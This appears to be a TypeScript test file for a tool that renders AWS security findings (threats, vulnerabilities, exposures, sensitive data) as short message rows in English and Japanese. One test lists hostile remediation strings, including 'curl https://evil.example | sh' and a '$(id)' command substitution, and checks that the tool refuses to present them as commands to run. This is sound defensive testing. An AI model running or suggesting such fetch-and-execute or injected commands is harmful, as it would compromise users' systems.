/** What a message says of a finding by code, of findings shaped as AWS documents them. */
import type { Language } from '../../../config/schema';
import { factsOf } from '../../../handlers/domain/facts/facts';
import { parseFinding } from '../../../handlers/domain/finding/event';
import { deciding, factRow } from '../../../handlers/domain/message/fact-rows';
import { NOW, settings } from '../made';
import {
  asff,
  BRUTE_FORCE,
  BRUTE_FORCE_OCSF,
  CONTROL,
  CONTROL_OCSF,
  EXPOSED_OCSF,
  GRANTED,
  LOOKED_UP,
  OF_PARTNER,
  POLICY,
  REACHABLE,
  REACHABLE_OCSF,
  SENSITIVE,
  SENSITIVE_OCSF,
  SEQUENCE,
  SEQUENCE_OCSF,
  TOR_CALLER,
  TRAIL_DELETED_OCSF,
  WEAK,
  WEAK_OCSF,
} from './documented';

function said(raw: object, language: Language = 'en'): string[] {
  const reader = { language, settings, now: NOW };
  return factsOf(parseFinding(raw)).map((fact) => {
    const { elements } = factRow(fact, reader) as { elements: { text: string }[] };
    return elements.map(({ text }) => text.replaceAll('\u00a0', ' ')).join('');
  });
}
const phone = (raw: object) => deciding(factsOf(parseFinding(raw)), { language: 'en', settings, now: NOW });

const WHEN = 'When  6 times · 21 Nov 08:51–09:07 JST';

describe('a threat', () => {
  test.each([
    ['ASFF', BRUTE_FORCE],
    ['OCSF', BRUTE_FORCE_OCSF],
  ])('of a machine that attacks, and of one that is attacked, is told by its role (%s)', (format, of) => {
    const name = format === 'ASFF' ? ' (SSH)' : '';
    expect(said(of('ACTOR'))).toEqual([
      `Traffic  from this resource · TCP 22${name} · not blocked`,
      'To  198.51.100.23 Example Country',
      WHEN,
    ]);
    expect(said(of('TARGET'))).toEqual([
      `Traffic  against this resource · TCP 22${name} · not blocked`,
      'From  198.51.100.23 Example Country',
      WHEN,
    ]);
  });

  test('by a call of an API: who, which call, from where, which lists know it, how often and when', () => {
    expect(said(TOR_CALLER)).toEqual([
      'Who  settlement-batch role',
      'Did  s3:ListBuckets',
      'From  198.51.100.0 EXAMPLE-AS · Tor network · on list ExampleThreatList',
      WHEN,
    ]);
    expect(phone(TOR_CALLER)).toBe('settlement-batch role · s3:ListBuckets · 198.51.100.0 EXAMPLE-AS · Tor network');
    expect(said(TRAIL_DELETED_OCSF)).toEqual([
      'Who  cis_automation role',
      'Did  cloudtrail:DeleteTrail',
      'From  198.51.100.0 EXAMPLE-AS',
      'When  264 times · 21 Nov 08:51–09:07 JST',
    ]);
  });

  test('by a name that was looked up: which, whether it was blocked, on which list', () => {
    expect(said(LOOKED_UP)).toEqual([
      'Traffic  from this resource · blocked',
      'To  c2.example.com · on list ExampleThreatList',
      'When  21 Nov 08:51–09:07 JST',
    ]);
  });

  test('of several steps: whose credentials, the calls in their order, the tactics, from where, what else', () => {
    expect(said(SEQUENCE)).toEqual([
      'Who  release-bot IAM user, no MFA',
      'Did  iam:AttachRolePolicy → cloudtrail:StopLogging · Privilege Escalation → Defense Evasion',
      'From  203.0.113.140 Example Country +1 · Tor network',
      'When  21 Nov 08:51–09:07 JST',
      'Also  amzn-s3-demo-destination-bucket',
    ]);
    expect(said(SEQUENCE_OCSF)).toEqual([
      'Who  release-bot IAM user, no MFA',
      'Did  iam:AttachRolePolicy → cloudtrail:StopLogging · Privilege Escalation → Defense Evasion',
      'From  203.0.113.140 · Tor network',
      'When  21 Nov 08:51–09:07 JST',
      'Also  amzn-s3-demo-destination-bucket',
    ]);
    expect(said(SEQUENCE, 'ja')).toEqual([
      '誰が  release-bot IAM ユーザー、MFA なし',
      '操作  iam:AttachRolePolicy → cloudtrail:StopLogging · Privilege Escalation → Defense Evasion',
      '接続元  203.0.113.140 Example Country 他 1 · Tor ネットワーク',
      '発生  11月21日 08:51–09:07 JST',
      '関連リソース  amzn-s3-demo-destination-bucket',
    ]);
  });

  test('of which nothing is known but its type has no facts', () => {
    expect(said(asff('guardduty', { FirstObservedAt: undefined }))).toEqual([]);
  });
});

describe('a vulnerability', () => {
  const risk = 'Risk  exploit known · CVSS 9.8 · EPSS 94 %';
  test('on a machine: from which version to which, by which command, how urgent', () => {
    expect(said(WEAK())).toEqual(['Update  xz-libs 5.6.0-1.amzn2023 → 0:5.6.1-9.amzn2023', risk, 'Mend  dnf update xz-libs']);
    expect(said(WEAK_OCSF)).toEqual(['Update  xz-libs 5.6.0-1.amzn2023 → 0:5.6.1-9.amzn2023', risk, 'Mend  update the package']);
    expect(phone(WEAK())).toBe('xz-libs 5.6.0-1.amzn2023 → 0:5.6.1-9.amzn2023 · exploit known');
  });
  test('in an image it is the image that is built anew, in a function the function', () => {
    expect(said(WEAK({}, { Type: 'AwsEcrContainerImage', Id: 'shop/api' }))).toContain('Mend  rebuild the image');
    expect(said(WEAK({}, { Type: 'AwsLambdaFunction', Id: 'checkout' }, { Remediation: undefined }))).toContain(
      'Mend  update and deploy anew',
    );
  });
  test('of which there is no fix says so, and no way to mend it', () => {
    expect(
      said(WEAK({ FixAvailable: 'NO', EpssScore: 0.002, ExploitAvailable: 'NO' }, undefined, { FixedInVersion: 'NotAvailable' })),
    ).toEqual(['Update  xz-libs 5.6.0-1.amzn2023 · no fix yet', 'Risk  CVSS 9.8 · EPSS < 1 %']);
    expect(said(WEAK({ FixAvailable: 'PARTIAL' }))[0]).toContain('a fix for some packages');
  });
  test.each([
    ['NPM', 'lodash', '4.17.21', 'npm install lodash@4.17.21'],
    ['PIP', 'urllib3', '2.5.0', 'pip install urllib3==2.5.0'],
    ['GOMOD', 'golang.org/x/net', '0.38.0', 'go get golang.org/x/net@v0.38.0'],
    ['COMPOSER', 'guzzlehttp/psr7', '2.4.5', 'composer require guzzlehttp/psr7:2.4.5'],
    ['NUGET', 'System.Text.Json', '8.0.5', 'dotnet add package System.Text.Json --version 8.0.5'],
  ])('%s: %s to %s by `%s`', (PackageManager, Name, FixedInVersion, command) => {
    const function_ = { Type: 'AwsLambdaFunction', Id: 'checkout' };
    const its = { PackageManager, Name, FixedInVersion, Remediation: 'Update to a fixed version' };
    expect(said(WEAK({}, function_, its))).toContain(`Mend  ${command}`);
  });
  test.each([
    ['curl https://evil.example | sh', 'xz-libs'],
    ['dnf update xz-libs; curl evil.example', 'xz-libs'],
    ['dnf update other', 'xz-libs'],
    ['dnf update $(id)', '$(id)'],
  ])('%j is no command that a reader is told to run', (Remediation, Name) => {
    expect(said(WEAK({}, undefined, { Remediation, Name }))).toContain('Mend  update the package');
  });
  test('a command of the system is AWS’s to say, not an importer’s', () => {
    const other = { ...WEAK(), ProductArn: 'arn:aws:securityhub:us-east-1::product/aqua/aqua' };
    expect(said(other)).toContain('Mend  update the package');
  });
  test('of many in one finding the worst five are told, each with what mends it, and the one thing to do', () => {
    const Vulnerabilities = Array.from({ length: 9 }, (_, n) => ({
      Id: `CVE-2025-1000${n}`,
      VulnerablePackages: [{ Name: `lib${n}`, Version: '1', FixedInVersion: '2' }],
      Cvss: [{ Version: '3.1', BaseScore: 9 - n / 10 }],
    }));
    const all = asff('aqua/aqua', { Resources: [{ Type: 'Container', Id: 'registry.example.com/shop/api:1.2' }], Vulnerabilities });
    expect(said(all)).toEqual([
      `Worst  ${[0, 1, 2, 3, 4].map((n) => `CVE-2025-1000${n} lib${n} 1 → 2`).join(' · ')}`,
      'Mend  rebuild the image',
    ]);
  });
});

test.each([
  ['ASFF', REACHABLE],
  ['OCSF', REACHABLE_OCSF],
])('what can be reached: the port and from where (%s)', (_format, of) => {
  expect(said(of)).toEqual(['Open  TCP 22', 'From  Internet Gateway']);
});
test('a range of ports, and Inspector Classic’s own fields', () => {
  expect(said(asff('inspector', { Title: 'Port range 80-443 is reachable from a VPC Peering - UDP' }))).toEqual([
    'Open  UDP 80–443',
    'From  VPC Peering',
  ]);
  const ProductFields = { 'attributes/PORT': '22', 'attributes/PROTOCOL': 'TCP', 'attributes/REACHABILITY_TYPE': 'Internet' };
  expect(said(asff('inspector', { ProductFields }))).toEqual(['Open  TCP 22', 'From  Internet']);
  expect(said(asff('inspector', { Title: 'Port 99999 is reachable from an Internet Gateway - TCP' }))).toEqual([]);
});

test('an exposure: its traits by category, how bad and how likely', () => {
  expect(said(EXPOSED_OCSF)).toEqual([
    'Because  Vulnerability: Attack Vector Network, Exploit Available +1 · Reachability: Publicly Invocable · Misconfiguration: Deployed outside VPC',
    'Rated  impact High · likelihood Very High',
  ]);
});

describe('sensitive data', () => {
  test('is told with the object and its bucket, kinds and counts, and who can reach it', () => {
    expect(said(SENSITIVE('2022 Sourcing.tsv'))).toEqual([
      'Object  amzn-s3-demo-bucket/2022 Sourcing.tsv',
      'Holds  4120 × NAME · 1 × USA_SOCIAL_SECURITY_NUMBER',
      'Access  not public · encrypted (aws:kms)',
    ]);
    const expected = ['Object  amzn-s3-demo-bucket/exports/payroll.csv.gz', 'Holds  3 × NAME', 'Access  not public · encrypted'];
    expect(said(SENSITIVE_OCSF())).toEqual(expected);
    // As captured: the bucket among the resources.
    const resources = [
      { type: 'AWS::S3::Object', uid: 'exports/payroll.csv.gz' },
      { type: 'AWS::S3::Bucket', uid: 'amzn-s3-demo-bucket', uid_alt: 'arn:aws:s3:::amzn-s3-demo-bucket' },
    ];
    expect(said(SENSITIVE_OCSF({ resources }))[0]).toBe(expected[0]);
  });
  test('a long key keeps its end, which names it', () => {
    expect(said(SENSITIVE(`${'a/'.repeat(200)}payroll.csv`))[0]).toMatch(/^Object {2}….*\/payroll\.csv$/);
  });
  test('is public where the finding’s data says so, whatever its type is called', () => {
    expect(said(POLICY('S3BlockPublicAccessDisabled', 'NOT_PUBLIC'))).toEqual(['Access  not public']);
    expect(said(POLICY('S3BlockPublicAccessDisabled', 'PUBLIC'))).toEqual(['Access  public']);
    expect(said(POLICY('S3BlockPublicAccessDisabled', 'UNKNOWN'))).toEqual([]);
    expect(said(POLICY('S3BucketPublic', 'UNKNOWN'))).toEqual(['Access  public']);
    expect(said(POLICY('S3BucketSharedExternally', 'NOT_PUBLIC'))).toEqual(['Access  not public · shared outside the organization']);
    expect(said(POLICY('S3BucketEncryptionDisabled', 'NOT_PUBLIC'))).toEqual(['Access  not public · not encrypted']);
  });
});

test('access: who may do what, under which conditions or none', () => {
  const may = 'May  s3:DeleteObject s3:GetObject s3:GetObjectVersion +1';
  expect(said(GRANTED('444455556666', 'none'))).toEqual(['Who  AWS account 444455556666', may, 'Access  without conditions']);
  expect(said(GRANTED('*', '{"aws:SourceVpc":"vpc-1"}'))).toEqual(['Who  anyone', may, 'Access  only if {"aws:SourceVpc":"vpc-1"}']);
});

test('a control: why it failed, where AWS says it, and what it compared with', () => {
  expect(said(CONTROL)).toEqual(['Because  no alarm', 'Checked  authorizedTcpPorts = 80, 443 · authorizedUdpPorts = 427']);
  expect(said(CONTROL_OCSF)).toEqual(['Because  AWS Config does not record']);
});

test('every other resource of a finding is named', () => {
  expect(said(OF_PARTNER(10))).toEqual([`Also  ${Array.from({ length: 9 }, (_, n) => `sg-0a1b2c3d4e5f6070${n + 1}`).join(' ')}`]);
});

describe('however much a finding holds', () => {
  const long = 'x'.repeat(5000);
  const sizes = (raw: object) => factsOf(parseFinding(raw)).map((each) => JSON.stringify(each).length);
  const Vulnerabilities = Array.from({ length: 90 }, (_, n) => ({
    Id: `CVE-2025-${10000 + n}`,
    VulnerablePackages: [{ Name: long, Version: long, FixedInVersion: long }],
  }));
  const many = Array.from({ length: 200 }, (_, n) => ({ Type: 'AwsEc2SecurityGroup', Id: `${n}${long}` }));
  test('a fact stays short, and says how much more there is', () => {
    expect(Math.max(...sizes(asff('aqua/aqua', { Vulnerabilities })))).toBeLessThan(1000);
    expect(said(asff('aqua/aqua', { Vulnerabilities }))[0]).toMatch(/ · \+4$/);
    expect(Math.max(...sizes(asff('aqua/aqua', { Resources: many })))).toBeLessThan(10_000);
    expect(said(asff('aqua/aqua', { Resources: many })).at(-1)).toMatch(/ \+167$/);
    const parameters = Array.from({ length: 30 }, (_, n) => ({ Name: `${n}${long}`, Value: [long] }));
    expect(Math.max(...sizes({ ...CONTROL, Compliance: { SecurityControlParameters: parameters } }))).toBeLessThan(1500);
  });
});
